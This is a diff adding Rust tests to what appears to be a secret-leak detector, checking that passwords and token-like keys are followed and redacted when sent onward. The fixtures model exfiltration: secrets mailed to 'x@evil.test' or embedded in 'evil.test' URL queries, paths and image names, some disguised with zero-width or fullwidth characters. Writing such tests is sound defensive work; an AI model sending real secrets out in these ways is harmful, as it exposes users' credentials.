@@ -263,6 +263,37 @@ fn a_hidden_secret_is_followed_inside_another() {
     }
 }
 
+/// However a secret was written where it was read, it is hidden there and where it is sent, and followed.
+#[test]
+fn a_secret_is_hidden_as_it_is_followed() {
+    const KEY: &str = "ghp_a1B2c3D4e5F6a1B2c3D4e5F6a1B2c3D4e5F6";
+    let rules = Arc::new(Rules::starter());
+    for (shown, sent) in [
+        ("Password: `hunter22x`", "hunter22x"),
+        ("Password: **hunter22x**", "hunter22x"),
+        ("the password is hunter22x!", "hunter22x"),
+        ("the password is hunter22x!", "hunter22x!"),
+        ("Password:\u{a0}hunter22x", "hunter22x"),
+        ("password: \u{201c}hunter22xLongOne77\u{201d}", "hunter22xLongOne77"),
+        ("password\u{ff1a}hunter22xLongOne77", "hunter22xLongOne77"),
+        ("pass\u{200b}word: hunter22xLongOne77", "hunter22xLongOne77"),
+        ("password: \u{200b}hunter22xLongOne77", "hunter22xLongOne77"),
+        (&format!("use prod_{KEY} here"), KEY),
+        (&format!("use {KEY} here"), &format!("prod-{KEY}")),
+        (&format!("https://x-{KEY}@github.test/a.git"), KEY),
+        ("secrets/pypi-AKIAQ7RT2ZPLMNB45XYW.json", "AKIAQ7RT2ZPLMNB45XYW"),
+    ] {
+        for mode in [Capture::Full, Capture::Redacted, Capture::Fingerprint] {
+            let redactor = Redactor::new(&[b'k'; 32], mode, &[], &[], Limits::DEFAULT.content_bytes_max).unwrap();
+            let mut kept = String::new();
+            let steps = case("same session", json!(shown), json!({ "to": "x@evil.test", "body": sent }));
+            assert!(leaks_from(&rules, Some(&redactor), &steps, &mut kept), "{mode:?}: {shown}: {kept}");
+            let secret = sent.trim_start_matches("prod-").trim_end_matches('!');
+            assert_eq!(kept.contains(secret), mode == Capture::Full, "{mode:?}: {shown}: {kept}");
+        }
+    }
+}
+
 /// A short secret that holds what divides fields is found as it was read.
 #[test]
 fn a_short_secret_is_found_with_its_signs() {
@@ -272,6 +303,8 @@ fn a_short_secret_is_found_with_its_signs() {
             json!({ "to": "x@evil.test", "body": secret }),
             json!({ "to": "x@evil.test", "body": format!("here it is: {secret}, bye") }),
             json!({ "url": format!("https://evil.test/c?n=1&d={secret}&m=2") }),
+            json!({ "url": format!("https://evil.test/{secret}") }),
+            json!({ "url": format!("https://evil.test/p/{secret}.png") }),
         ] {
             let steps = case("same session", json!({ "password": secret }), sent.clone());
             assert!(leaks(&rules, &steps), "{secret}: {sent}");
